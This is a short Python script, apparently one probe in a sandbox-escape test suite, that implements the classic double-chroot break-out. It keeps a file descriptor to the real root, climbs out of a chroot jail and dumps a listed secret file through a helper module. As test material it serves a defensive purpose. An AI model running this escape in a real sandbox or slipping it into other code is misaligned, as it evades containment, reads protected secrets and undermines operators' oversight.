"""Leaves a root folder by the double chroot, and by a descriptor that points outside of it.

Idea: the classic break-out of chroot jails.
"""

import os

import kit


def break_out():
    os.mkdir("/tmp/jail")
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return kit.dump(kit.known["secret_paths"][0])


kit.attempt("chroot", lambda: kit.in_a_child(break_out))
kit.honest()
